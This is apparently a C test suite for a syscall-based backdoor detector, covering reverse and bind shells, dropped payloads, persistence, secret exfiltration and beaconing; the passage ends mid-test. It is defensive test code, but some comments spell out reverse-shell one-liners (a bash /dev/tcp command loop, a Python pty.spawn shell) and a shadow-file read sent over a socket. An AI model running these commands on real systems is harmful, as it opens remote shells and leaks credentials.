/*
 * test_backdoor.c — the "backdoor" detector fed hand-built event sequences
 * through the real bus: shells on sockets, dropped payloads, persistence,
 * exfiltration and beaconing fire; a benign chat server, a Python start-up
 * and a build stay silent.
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

#include "harness.h"

static void publish(struct harness *h, struct da_event *ev)
{
	cr_assert_eq(harness_publish(h, ev), 0);
}

static void fail_with(struct da_event *ev, int err, const char *name)
{
	ev->err = err;
	ev->errname = name;
	ev->result = -1;
}

static void connect_to(struct harness *h, int pid, double t, int fd, const char *addr, int port,
		       int err)
{
	struct da_event ev = ev_make(DA_EV_NET_CONNECT, pid, t);
	static char text[256];
	snprintf(text, sizeof(text), "connect(%d, {sa_family=AF_INET, %s}, 16) = %s", fd, addr,
		 err ? "-1 ENETUNREACH (Network is unreachable)" : "0");
	ev.syscall = "connect";
	ev.fd = fd;
	ev.fd_desc = "socket:inet/stream";
	ev.family = AF_INET;
	ev.sock_type = SOCK_STREAM;
	ev.addr = addr;
	ev.port = port;
	ev.text = text;
	if (err)
		fail_with(&ev, err, "ENETUNREACH");
	publish(h, &ev);
}

static void dup_fd(struct harness *h, int pid, double t, int from, int to)
{
	struct da_event ev = ev_make(DA_EV_SYSCALL_OTHER, pid, t);
	char text[64];
	snprintf(text, sizeof(text), "dup2(%d, %d) = %d", from, to, to);
	ev.syscall = "dup2";
	ev.result = to;
	ev.text = text;
	publish(h, &ev);
}

static void fork_child(struct harness *h, int pid, int child, double t)
{
	struct da_event ev = ev_make(DA_EV_PROC_FORK, pid, t);
	ev.syscall = "clone";
	ev.target_pid = child;
	ev.result = child;
	ev.detail = "process";
	ev.text = "clone(child_stack=NULL, flags=SIGCHLD) = child";
	publish(h, &ev);
}

static void exec_prog(struct harness *h, int pid, double t, const char *path, const char *in,
		      const char *out, const char *phase)
{
	static const char *argv[3];
	argv[0] = path;
	argv[1] = "-i";
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, pid, t);
	char text[256];
	snprintf(text, sizeof(text), "execve(\"%s\", [\"%s\", \"-i\"], ...) = 0", path, path);
	ev.syscall = "execve";
	ev.path = path;
	ev.argv = argv;
	ev.argc = 2;
	ev.stdio[0] = in;
	ev.stdio[1] = out;
	ev.stdio[2] = out;
	ev.phase = phase;
	ev.text = text;
	publish(h, &ev);
}

static void open_file(struct harness *h, int pid, double t, const char *path, unsigned access,
		      int err)
{
	struct da_event ev = ev_make(DA_EV_FILE_OPEN, pid, t);
	char text[256];
	snprintf(text, sizeof(text), "openat(AT_FDCWD, \"%s\", ...) = %s", path,
		 err ? "-1 EACCES (Permission denied)" : "3");
	ev.syscall = "openat";
	ev.path = path;
	ev.access = access;
	ev.flags = (access & DA_ACC_WRITE) ? O_WRONLY | O_CREAT : O_RDONLY;
	ev.mode = 0644;
	ev.fd = 3;
	ev.result = 3;
	ev.text = text;
	if (err)
		fail_with(&ev, err, "EACCES");
	publish(h, &ev);
}

static void mmap_exec(struct harness *h, int pid, double t, const char *path)
{
	struct da_event ev = ev_make(DA_EV_FILE_MMAP_EXEC, pid, t);
	char text[256];
	snprintf(text, sizeof(text), "mmap(NULL, 8192, PROT_READ|PROT_EXEC, MAP_PRIVATE, 3<%s>, 0)",
		 path);
	ev.syscall = "mmap";
	ev.path = path;
	ev.flags = 5;
	ev.detail = "mmap";
	ev.text = text;
	publish(h, &ev);
}

static void send_to(struct harness *h, int pid, double t, const char *addr)
{
	struct da_event ev = ev_make(DA_EV_NET_SEND, pid, t);
	ev.syscall = "sendto";
	ev.fd = 4;
	ev.fd_desc = "socket:inet/stream->peer";
	ev.family = AF_INET;
	ev.addr = addr;
	ev.arg[0] = 120;
	ev.text = "sendto(4, \"...\", 120, 0, NULL, 0) = 120";
	publish(h, &ev);
}

static const unsigned WRITE_NEW = DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC;

/* ---- shells on sockets ---------------------------------------------------- */

Test(backdoor, reverse_shell_from_exec_stdio)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	connect_to(h, 200, 1.0, 3, "10.0.0.5:4444", 4444, 0);
	fork_child(h, 200, 201, 1.1);
	exec_prog(h, 201, 1.2, "/bin/sh", "socket:inet/stream->10.0.0.5:4444",
		  "socket:inet/stream->10.0.0.5:4444", NULL);
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "backdoor.reverse_shell");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
	cr_assert(strstr(f->message, "/bin/sh") && strstr(f->message, "10.0.0.5:4444"), "%s",
		  f->message);
	cr_assert_geq(f->n_evidence, 2);
	cr_assert_str_eq(harness_status(h), "fail");
	cr_assert_str_eq(harness_observation(h), "Reverse shell");
	harness_free(h);
}

Test(backdoor, reverse_shell_from_dup2_when_stdio_is_unknown)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	connect_to(h, 200, 1.0, 3, "10.0.0.5:4444", 4444, 0);
	dup_fd(h, 200, 1.1, 3, 0);
	dup_fd(h, 200, 1.1, 3, 1);
	fork_child(h, 200, 202, 1.2);
	exec_prog(h, 202, 1.3, "/usr/bin/bash", NULL, NULL, NULL);
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "backdoor.reverse_shell");
	cr_assert_not_null(f);
	cr_assert(strstr(f->message, "10.0.0.5:4444"), "%s", f->message);
	cr_assert_eq(f->n_evidence, 3); /* connect, dup2, exec */
	harness_free(h);
}

Test(backdoor, connect_then_exec_of_a_shell_in_the_same_process)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	connect_to(h, 200, 1.0, 3, "10.0.0.5:4444", 4444, ENETUNREACH);
	exec_prog(h, 200, 1.3, "/usr/bin/python3", "unknown", "unknown", NULL);
	harness_finish(h);
	cr_assert_eq(harness_max_severity(h, "backdoor.reverse_shell"), DA_SEV_CRITICAL);
	harness_free(h);
}

Test(backdoor, bind_shell_from_an_accepted_connection)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	struct da_event ev = ev_make(DA_EV_NET_ACCEPT, 300, 1.0);
	ev.syscall = "accept";
	ev.fd = 3;
	ev.target_fd = 4;
	ev.fd_desc = "socket:inet/stream@0.0.0.0:31337";
	ev.family = AF_INET;
	ev.addr = "127.0.0.1:40000";
	ev.result = 4;
	ev.text = "accept(3, {sa_family=AF_INET, sin_port=htons(40000)}, [16]) = 4";
	publish(h, &ev);
	dup_fd(h, 300, 1.1, 4, 0);
	dup_fd(h, 300, 1.1, 4, 1);
	exec_prog(h, 300, 1.2, "/bin/dash", NULL, NULL, NULL);
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "backdoor.bind_shell");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
	cr_assert_eq(harness_count(h, "backdoor.reverse_shell"), 0);
	harness_free(h);
}

static void open_ptmx(struct harness *h, int pid, double t)
{
	struct da_event ev = ev_make(DA_EV_FILE_OPEN, pid, t);
	ev.syscall = "openat";
	ev.path = "/dev/ptmx";
	ev.access = DA_ACC_READ | DA_ACC_WRITE;
	ev.flags = O_RDWR | O_NOCTTY;
	ev.fd = 5;
	ev.result = 5;
	ev.text = "openat(AT_FDCWD, \"/dev/ptmx\", O_RDWR|O_NOCTTY) = 5";
	publish(h, &ev);
}

Test(backdoor, reverse_shell_through_pty_spawn)
{
	/* python -c '...s.connect(); os.dup2(s.fileno(), 0); ...; pty.spawn("sh")' */
	struct harness *h = harness_new("backdoor", NULL, NULL);
	connect_to(h, 200, 1.0, 3, "10.0.0.5:4444", 4444, 0);
	dup_fd(h, 200, 1.1, 3, 0);
	dup_fd(h, 200, 1.1, 3, 1);
	open_ptmx(h, 200, 1.2);
	fork_child(h, 200, 201, 1.3);
	dup_fd(h, 201, 1.35, 6, 0); /* the pty slave replaces the socket in the child */
	exec_prog(h, 201, 1.4, "/bin/sh", "/dev/pts/0", "/dev/pts/0", NULL);
	cr_assert_eq(harness_max_severity(h, "backdoor.reverse_shell"), DA_SEV_CRITICAL);
	harness_free(h);

	/* the same without dup2 records: connect + /dev/ptmx in the parent */
	h = harness_new("backdoor", NULL, NULL);
	connect_to(h, 200, 1.0, 3, "10.0.0.5:4444", 4444, 0);
	open_ptmx(h, 200, 1.2);
	fork_child(h, 200, 201, 1.3);
	exec_prog(h, 201, 1.4, "/bin/bash", "/dev/pts/0", "/dev/pts/0", NULL);
	cr_assert_eq(harness_count(h, "backdoor.reverse_shell"), 1);
	harness_free(h);

	/* a terminal program without any connection is not one */
	h = harness_new("backdoor", NULL, NULL);
	open_ptmx(h, 200, 1.2);
	fork_child(h, 200, 201, 1.3);
	exec_prog(h, 201, 1.4, "/bin/bash", "/dev/pts/0", "/dev/pts/0", NULL);
	cr_assert_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

Test(backdoor, interpreter_reexec_after_connect_is_not_a_shell)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	exec_prog(h, 200, 0.0, "/usr/bin/python3", "unknown", "unknown", NULL);
	connect_to(h, 200, 1.0, 3, "127.0.0.1:5555", 5555, 0);
	exec_prog(h, 200, 2.0, "/usr/bin/python3", "unknown", "unknown", NULL);
	harness_finish(h);
	cr_assert_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

/* ---- a benign run ----------------------------------------------------------- */

Test(backdoor, benign_chat_server_python_startup_and_build_are_silent)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	/* the build: gcc's temporaries in /tmp, cc1 and ld run, ./a.out in the workdir */
	exec_prog(h, 90, 0.0, "/usr/bin/make", "/dev/null", "pipe", "setup");
	exec_prog(h, 91, 0.1, "/bin/sh", "/dev/null", "pipe", "setup");
	open_file(h, 92, 0.2, "/tmp/ccA1b2.s", WRITE_NEW, 0);
	exec_prog(h, 92, 0.2, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/dev/null", "pipe", "setup");
	open_file(h, 93, 0.3, "/tmp/ccA1b2.o", WRITE_NEW, 0);
	mmap_exec(h, 93, 0.3, "/usr/lib/gcc/x86_64-linux-gnu/12/liblto_plugin.so");
	open_file(h, 93, 0.4, "/home/auditor/app/a.out", WRITE_NEW, 0);
	exec_prog(h, 94, 0.5, "/home/auditor/app/a.out", "/dev/null", "pipe", NULL);

	/* python3 server.py: start-up */
	exec_prog(h, 100, 1.0, "/usr/bin/python3", "/dev/null", "pipe", NULL);
	open_file(h, 100, 1.01, "/etc/ld.so.cache", DA_ACC_READ, 0);
	mmap_exec(h, 100, 1.01, "/usr/lib/x86_64-linux-gnu/libm.so.6");
	open_file(h, 100, 1.02, "/usr/lib/python3.11/encodings/__init__.py", DA_ACC_READ, 0);
	open_file(h, 100, 1.03, "/etc/localtime", DA_ACC_READ, 0);
	open_file(h, 100, 1.04, "/home/auditor/app/__pycache__/server.cpython-311.pyc.99", WRITE_NEW, 0);
	mmap_exec(h, 100, 1.05, "/usr/lib/python3.11/lib-dynload/_socket.cpython-311-x86_64-linux-gnu.so");
	/* libffi trampolines from ctypes */
	mmap_exec(h, 100, 1.06, "memfd:libffi (deleted)");
	/* getpwuid() reads /etc/passwd; the server then talks to local clients */
	open_file(h, 100, 1.07, "/etc/passwd", DA_ACC_READ, 0);
	struct da_event acc = ev_make(DA_EV_NET_ACCEPT, 100, 2.0);
	acc.syscall = "accept4";
	acc.fd = 3;
	acc.target_fd = 4;
	acc.family = AF_INET;
	acc.fd_desc = "socket:inet/stream@127.0.0.1:5555";
	acc.addr = "127.0.0.1:40000";
	acc.result = 4;
	acc.text = "accept4(3, ...) = 4";
	publish(h, &acc);
	send_to(h, 100, 2.1, "127.0.0.1:40000");
	/* its log and scratch files, never executed */
	open_file(h, 100, 2.2, "/tmp/chat.log", WRITE_NEW, 0);
	open_file(h, 100, 2.3, "/home/auditor/.cache/state.json", WRITE_NEW, 0);
	/* a helper run through subprocess, stdio on pipes */
	fork_child(h, 100, 101, 3.0);
	exec_prog(h, 101, 3.1, "/bin/sh", "pipe", "pipe", NULL);
	/* DNS look-ups every second */
	for (int i = 0; i < 6; i++) {
		struct da_event dns = ev_make(DA_EV_NET_CONNECT, 100, 4.0 + i);
		dns.syscall = "connect";
		dns.fd = 5;
		dns.family = AF_INET;
		dns.sock_type = SOCK_DGRAM;
		dns.addr = "127.0.0.53:53";
		dns.port = 53;
		dns.text = "connect(5, {sa_family=AF_INET, sin_port=htons(53)}, 16) = 0";
		publish(h, &dns);
	}
	cr_assert_eq(harness_finish(h), 0);
	if (harness_count(h, NULL))
		harness_dump(h);
	cr_assert_eq(harness_count(h, NULL), 0);
	cr_assert_str_eq(harness_status(h), "safe");
	cr_assert_str_eq(harness_observation(h), "None observed");
	harness_free(h);
}

/* ---- dropped payloads --------------------------------------------------------- */

Test(backdoor, written_then_executed_outside_workdir_is_critical)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	open_file(h, 100, 1.0, "/tmp/.x", WRITE_NEW, 0);
	fork_child(h, 100, 101, 1.1);
	exec_prog(h, 101, 1.2, "/tmp/.x", "pipe", "pipe", NULL);
	const struct harness_finding *f = harness_get(h, "backdoor.dropped_payload");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
	cr_assert_eq(f->n_evidence, 2);
	cr_assert(strstr(f->evidence[0], "openat") && strstr(f->evidence[1], "execve"));
	harness_free(h);
}

Test(backdoor, hidden_file_in_workdir_and_loaded_library)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	open_file(h, 100, 1.0, "/home/auditor/app/.cache.bin", WRITE_NEW, 0);
	exec_prog(h, 100, 1.2, "/home/auditor/app/.cache.bin", "pipe", "pipe", NULL);
	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 1);
	open_file(h, 100, 2.0, "/dev/shm/libx.so", WRITE_NEW, 0);
	mmap_exec(h, 100, 2.1, "/dev/shm/libx.so");
	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 2);
	cr_assert_eq(harness_max_severity(h, "backdoor.dropped_payload"), DA_SEV_CRITICAL);
	cr_assert_eq(harness_count(h, "backdoor.writable_library"), 0);
	harness_free(h);
}

Test(backdoor, fileless_exec_of_a_memfd)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, 100, 1.0);
	ev.syscall = "execveat";
	ev.fd = 5;
	ev.path = "/memfd:payload (deleted)";
	ev.detail = "memfd";
	ev.text = "execveat(5, \"\", [\"x\"], ..., AT_EMPTY_PATH) = 0";
	publish(h, &ev);
	cr_assert_eq(harness_max_severity(h, "backdoor.dropped_payload"), DA_SEV_CRITICAL);
	harness_free(h);
}

/* A replayed log's HOME is the user's own (anaconda, pyenv, nvm): the
 * libraries installed there are not "writable-dir" code; /tmp's still are. */
Test(backdoor, library_from_the_users_home_in_a_replay_is_theirs)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	mmap_exec(h, 100, 1.0, "/home/auditor/.pyenv/versions/3.11.7/lib/python3.11/lib-dynload/_json.so");
	cr_assert_eq(harness_count(h, "backdoor.writable_library"), 0);
	mmap_exec(h, 100, 1.1, "/tmp/libhook.so");
	cr_assert_eq(harness_max_severity(h, "backdoor.writable_library"), DA_SEV_HIGH);
	harness_free(h);
}

Test(backdoor, library_from_home_and_exec_from_tmp_are_high)
{
	/* live: the sandbox's fresh HOME holds only what the run put there */
	struct harness *h = harness_new_live("backdoor", NULL);
	mmap_exec(h, 100, 1.0, "/home/auditor/.local/lib/libhook.so");
	cr_assert_eq(harness_max_severity(h, "backdoor.writable_library"), DA_SEV_HIGH);
	exec_prog(h, 100, 1.2, "/tmp/runme", "pipe", "pipe", NULL);
	cr_assert_eq(harness_max_severity(h, "backdoor.dropped_payload"), DA_SEV_HIGH);
	/* the submission's own library is not "writable-dir" code */
	mmap_exec(h, 100, 1.3, "/home/auditor/app/libchat.so");
	cr_assert_eq(harness_count(h, NULL), 2);
	harness_free(h);
}

Test(backdoor, libraries_installed_by_setup_are_expected)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	struct da_event ev = ev_make(DA_EV_FILE_OPEN, 90, 0.5);
	ev.syscall = "openat";
	ev.path = "/home/auditor/.local/lib/python3.11/site-packages/_cffi_backend.so";
	ev.access = WRITE_NEW;
	ev.flags = O_WRONLY | O_CREAT | O_TRUNC;
	ev.phase = "setup";
	ev.result = 3;
	ev.fd = 3;
	ev.text = "openat(AT_FDCWD, \"/home/auditor/.local/lib/python3.11/site-packages/_cffi_backend.so\", ...) = 3";
	publish(h, &ev);
	mmap_exec(h, 100, 2.0, "/home/auditor/.local/lib/python3.11/site-packages/_cffi_backend.so");
	/* JVM libraries unpack their own native code */
	open_file(h, 100, 3.0, "/tmp/sqlite-3.42.0-libsqlitejdbc.so", WRITE_NEW, 0);
	mmap_exec(h, 100, 3.1, "/tmp/sqlite-3.42.0-libsqlitejdbc.so");
	harness_finish(h);
	cr_assert_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

/* ---- persistence ---------------------------------------------------------------- */

/* Persistence writes are file.persistence's (one owner per finding; see
 * tests/plugins/test_shared_policy.c): backdoor keeps what no file write
 * shows, a scheduling tool run. */
Test(backdoor, persistence_writes_are_file_detectors_scheduling_tools_are_backdoors)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	open_file(h, 100, 1.0, "/home/auditor/.bashrc", DA_ACC_WRITE | DA_ACC_APPEND, 0);
	open_file(h, 100, 1.1, "/etc/crontab", DA_ACC_WRITE | DA_ACC_APPEND, EACCES);
	open_file(h, 100, 1.2, "/home/auditor/.ssh/authorized_keys", WRITE_NEW, 0);
	open_file(h, 100, 1.3,
		  "/home/auditor/.local/lib/python3.11/site-packages/evil.pth", WRITE_NEW, 0);
	open_file(h, 100, 1.4, "/home/auditor/app/.profile", WRITE_NEW, 0);
	cr_assert_eq(harness_count(h, "backdoor.persistence"), 0);
	static const char *const argv[] = {"crontab", "/tmp/job", NULL};
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, 101, 2.0);
	ev.syscall = "execve";
	ev.path = "/usr/bin/crontab";
	ev.argv = argv;
	ev.argc = 2;
	ev.text = "execve(\"/usr/bin/crontab\", [\"crontab\", \"/tmp/job\"], ...) = 0";
	publish(h, &ev);
	cr_assert_eq(harness_count(h, "backdoor.persistence"), 1);
	cr_assert_eq(harness_max_severity(h, NULL), DA_SEV_HIGH);
	harness_finish(h);
	cr_assert_str_eq(harness_status(h), "fail");
	harness_free(h);
}

/* ---- exfiltration ------------------------------------------------------------------ */

Test(backdoor, secret_read_then_connect_is_exfiltration)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	open_file(h, 100, 1.0, "/home/auditor/.ssh/id_rsa", DA_ACC_READ, 0);
	connect_to(h, 100, 1.5, 4, "203.0.113.9:443", 443, ENETUNREACH);
	const struct harness_finding *f = harness_get(h, "backdoor.exfiltration");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
	cr_assert(strstr(f->message, "id_rsa") && strstr(f->message, "203.0.113.9:443") &&
		  strstr(f->message, "ENETUNREACH"), "%s", f->message);
	cr_assert_eq(f->n_evidence, 2);
	harness_free(h);
}

Test(backdoor, child_reads_secret_parent_sends)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	fork_child(h, 100, 101, 0.5);
	open_file(h, 101, 1.0, "/home/auditor/.aws/credentials", DA_ACC_READ, 0);
	send_to(h, 100, 2.0, "127.0.0.1:6000");
	cr_assert_eq(harness_count(h, "backdoor.exfiltration"), 1);
	harness_free(h);
}

/* connect first, then read the secret, then write() (not traced live) */
Test(backdoor, secret_read_while_connected_is_exfiltration)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	connect_to(h, 100, 1.0, 3, "127.0.0.1:4444", 4444, 0);
	fork_child(h, 100, 101, 1.2);
	cr_assert_eq(harness_count(h, "backdoor.exfiltration"), 0);
	/* `cat /etc/shadow >&3`: the child inherited the connection */
	open_file(h, 101, 1.5, "/etc/shadow", DA_ACC_READ, 0);
	const struct harness_finding *f = harness_get(h, "backdoor.exfiltration");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
	cr_assert(strstr(f->message, "/etc/shadow") && strstr(f->message, "127.0.0.1:4444") &&
		  strstr(f->message, "holding a connection"), "%s", f->message);
	cr_assert_eq(harness_count(h, "backdoor.exfiltration"), 1, "one finding, not one per ancestor");
	harness_free(h);

	/* a failed connect holds nothing; a weak secret next to a loopback peer is local */
	h = harness_new("backdoor", NULL, NULL);
	connect_to(h, 100, 1.0, 3, "203.0.113.9:443", 443, ENETUNREACH);
	connect_to(h, 100, 1.1, 4, "127.0.0.1:8000", 8000, 0);
	open_file(h, 100, 1.5, "/etc/passwd", DA_ACC_READ, 0);
	cr_assert_eq(harness_count(h, "backdoor.exfiltration"), 0);
	harness_free(h);
}

/* another process's environment holds its tokens; one's own is one's own */
Test(backdoor, other_process_environ_is_a_secret)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	open_file(h, 100, 1.0, "/proc/2/environ", DA_ACC_READ, 0);
	send_to(h, 100, 1.5, "127.0.0.53:53");
	cr_assert_eq(harness_max_severity(h, "backdoor.exfiltration"), DA_SEV_CRITICAL);
	harness_free(h);

	h = harness_new("backdoor", NULL, NULL);
	open_file(h, 100, 1.0, "/proc/self/environ", DA_ACC_READ, 0);
	open_file(h, 100, 1.1, "/proc/100/environ", DA_ACC_READ, 0);
	send_to(h, 100, 1.5, "127.0.0.1:8080");
	cr_assert_eq(harness_count(h, "backdoor.exfiltration"), 0);
	send_to(h, 100, 1.6, "198.51.100.7:80");
	cr_assert_eq(harness_count(h, "backdoor.exfiltration"), 1);
	harness_free(h);
}

Test(backdoor, passwd_counts_only_when_sent_off_host)
{
	struct harness *h = harness_new("backdoor", "allow_connect: [\"192.0.2.1:80\"]\n", NULL);
	open_file(h, 100, 1.0, "/etc/passwd", DA_ACC_READ, 0);
	send_to(h, 100, 1.1, "127.0.0.1:5555");
	connect_to(h, 100, 1.2, 4, "192.0.2.1:80", 80, 0);
	cr_assert_eq(harness_count(h, NULL), 0);
	/* a user-name lookup and a DNS query are routine together */
	connect_to(h, 100, 1.25, 6, "10.255.255.53:53", 53, ENETUNREACH);
	cr_assert_eq(harness_count(h, NULL), 0);
	connect_to(h, 100, 1.3, 5, "198.51.100.7:80", 80, ENETUNREACH);
	cr_assert_eq(harness_max_severity(h, "backdoor.exfiltration"), DA_SEV_CRITICAL);
	harness_free(h);
}

/* ---- beaconing ------------------------------------------------------------------------ */

Test(backdoor, regular_reconnects_are_beaconing)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	for (int i = 0; i < 4; i++)
		connect_to(h, 100, 1.0 + 2.0 * i + 0.1 * (i % 2), 3, "203.0.113.7:8080", 8080,
			   ENETUNREACH);
	for (int i = 0; i < 3; i++)
		connect_to(h, 100, 1.0 + 1.5 * i, 3, "127.0.0.1:9000", 9000, ECONNREFUSED);
	/* irregular: a burst then one late retry */
	connect_to(h, 100, 1.0, 3, "198.51.100.2:25", 25, ENETUNREACH);
	connect_to(h, 100, 1.1, 3, "198.51.100.2:25", 25, ENETUNREACH);
	connect_to(h, 100, 30.0, 3, "198.51.100.2:25", 25, ENETUNREACH);
	harness_finish(h);
	cr_assert_eq(harness_count(h, "backdoor.beaconing"), 2);
	cr_assert_eq(harness_max_severity(h, "backdoor.beaconing"), DA_SEV_HIGH);
	harness_free(h);

	/* loopback alone is medium */
	h = harness_new("backdoor", NULL, NULL);
	for (int i = 0; i < 3; i++)
		connect_to(h, 100, 1.0 + 1.5 * i, 3, "127.0.0.1:9000", 9000, ECONNREFUSED);
	harness_finish(h);
	cr_assert_eq(harness_max_severity(h, "backdoor.beaconing"), DA_SEV_MEDIUM);
	cr_assert_str_eq(harness_status(h), "warn");
	harness_free(h);
}

Test(backdoor, polling_its_own_server_is_not_beaconing)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	struct da_event ev = ev_make(DA_EV_NET_LISTEN, 100, 0.5);
	ev.syscall = "listen";
	ev.fd = 3;
	ev.addr = "127.0.0.1:8000";
	ev.port = 8000;
	ev.text = "listen(3, 5) = 0";
	publish(h, &ev);
	for (int i = 0; i < 4; i++)
		connect_to(h, 100, 1.0 + 1.0 * i, 4, "127.0.0.1:8000", 8000, 0);
	harness_finish(h);
	cr_assert_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

Test(backdoor, allow_connect_exempts_beaconing)
{
	struct harness *h = harness_new(
		"backdoor", "allow_connect: [\"203.0.113.*:8080\", \"127.0.0.1\", \"[::1]:*\"]\n", NULL);
	for (int i = 0; i < 4; i++) {
		connect_to(h, 100, 1.0 + 2.0 * i, 3, "203.0.113.7:8080", 8080, ENETUNREACH);
		connect_to(h, 100, 1.0 + 2.0 * i, 3, "127.0.0.1:9000", 9000, ECONNREFUSED);
		connect_to(h, 100, 1.0 + 2.0 * i, 3, "[::1]:9000", 9000, ECONNREFUSED);
	}
	harness_finish(h);
	cr_assert_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

/* sendto(4, ..., {127.0.0.1:5353}) on an unconnected UDP socket */
static void datagram_to(struct harness *h, int pid, double t, const char *local, const char *addr,
			int port)
{
	struct da_event ev = ev_make(DA_EV_NET_SEND, pid, t);
	static char text[256];
	snprintf(text, sizeof(text),
		 "sendto(4, \"hb\", 2, 0, {sa_family=AF_INET, sin_port=htons(%d)}, 16) = 2", port);
	ev.syscall = "sendto";
	ev.fd = 4;
	ev.fd_desc = local;
	ev.family = AF_INET;
	ev.sock_type = SOCK_DGRAM;
	ev.addr = addr;
	ev.port = port;
	ev.arg[0] = 2;
	ev.result = 2;
	ev.text = text;
	publish(h, &ev);
}

Test(backdoor, udp_sends_without_connect_are_beaconing)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	for (int i = 0; i < 7; i++)
		datagram_to(h, 100, 1.0 + i, "socket:inet/dgram@0.0.0.0:38604", "127.0.0.1:5353", 5353);
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "backdoor.beaconing");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_MEDIUM); /* loopback */
	cr_assert(strstr(f->message, "127.0.0.1:5353") && strstr(f->message, "7 sends"), "%s",
		  f->message);
	harness_free(h);

	h = harness_new("backdoor", NULL, NULL);
	/* a stream of datagrams is one burst, not a series */
	for (int i = 0; i < 60; i++)
		datagram_to(h, 100, 1.0 + 0.1 * i, "socket:inet/dgram@0.0.0.0:40000",
			    "198.51.100.9:9999", 9999);
	/* DNS queries every second */
	for (int i = 0; i < 6; i++)
		datagram_to(h, 100, 1.0 + i, "socket:inet/dgram@0.0.0.0:40001", "127.0.0.53:53", 53);
	/* sends on a connected socket repeat its connect, they are no new contact */
	for (int i = 0; i < 6; i++)
		send_to(h, 100, 1.0 + i, "203.0.113.7:8080");
	/* the run's UDP client and its own echo server answering it: both ends are the run's ports */
	for (int i = 0; i < 5; i++) {
		datagram_to(h, 100, 1.0 + 0.5 * i, "socket:inet/dgram@0.0.0.0:41000", "127.0.0.1:5555",
			    5555);
		datagram_to(h, 101, 1.01 + 0.5 * i, "socket:inet/dgram@127.0.0.1:5555",
			    "127.0.0.1:41000", 41000);
	}
	harness_finish(h);
	if (harness_count(h, NULL))
		harness_dump(h);
	cr_assert_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

/* ---- any program on an outbound connection ------------------------------------------------ */

static void exec_argv(struct harness *h, int pid, double t, const char *path, int argc,
		      const char *const *argv, const char *in, const char *out, const char *phase,
		      int err)
{
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, pid, t);
	char text[512];
	int n = snprintf(text, sizeof(text), "execve(\"%s\", [", path);
	for (int i = 0; i < argc && n > 0 && (size_t)n < sizeof(text); i++)
		n += snprintf(text + n, sizeof(text) - (size_t)n, "%s\"%s\"", i ? ", " : "", argv[i]);
	if (n > 0 && (size_t)n < sizeof(text))
		snprintf(text + n, sizeof(text) - (size_t)n, "], ...) = %s",
			 err ? "-1 ENOENT (No such file or directory)" : "0");
	ev.syscall = "execve";
	ev.path = path;
	ev.argv = argv;
	ev.argc = argc;
	ev.stdio[0] = in;
	ev.stdio[1] = out;
	ev.stdio[2] = out;
	ev.phase = phase;
	ev.text = text;
	if (err)
		fail_with(&ev, err, "ENOENT");
	publish(h, &ev);
}

#define EXEC(h, pid, t, path, in, out, ...)                                                    \
	do {                                                                                   \
		static const char *const argv_[] = {__VA_ARGS__};                              \
		exec_argv(h, pid, t, path, (int)(sizeof(argv_) / sizeof(argv_[0])), argv_, in, \
			  out, NULL, 0);                                                       \
	} while (0)

Test(backdoor, any_program_with_stdout_on_an_outbound_connection_is_a_reverse_shell)
{
	/* exec 5<>/dev/tcp/127.0.0.1/4444; while read cmd <&5; do eval "$cmd" >&5 2>&5; done */
	static const char *const sock = "socket:inet/stream->127.0.0.1:4444";
	struct harness *h = harness_new("backdoor", NULL, NULL);
	EXEC(h, 200, 0.0, "/usr/bin/bash", "/dev/null", "pipe", "bash", "main.sh");
	connect_to(h, 200, 1.0, 3, "127.0.0.1:4444", 4444, 0);
	fork_child(h, 200, 201, 1.1);
	EXEC(h, 201, 1.2, "/usr/bin/id", "/dev/null", sock, "id");
	const struct harness_finding *f = harness_get(h, "backdoor.reverse_shell");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
	cr_assert(strstr(f->message, "/usr/bin/id") && strstr(f->message, "127.0.0.1:4444") &&
		  strstr(f->message, "bash"), "%s", f->message);
	cr_assert_geq(f->n_evidence, 2);
	/* one finding per destination */
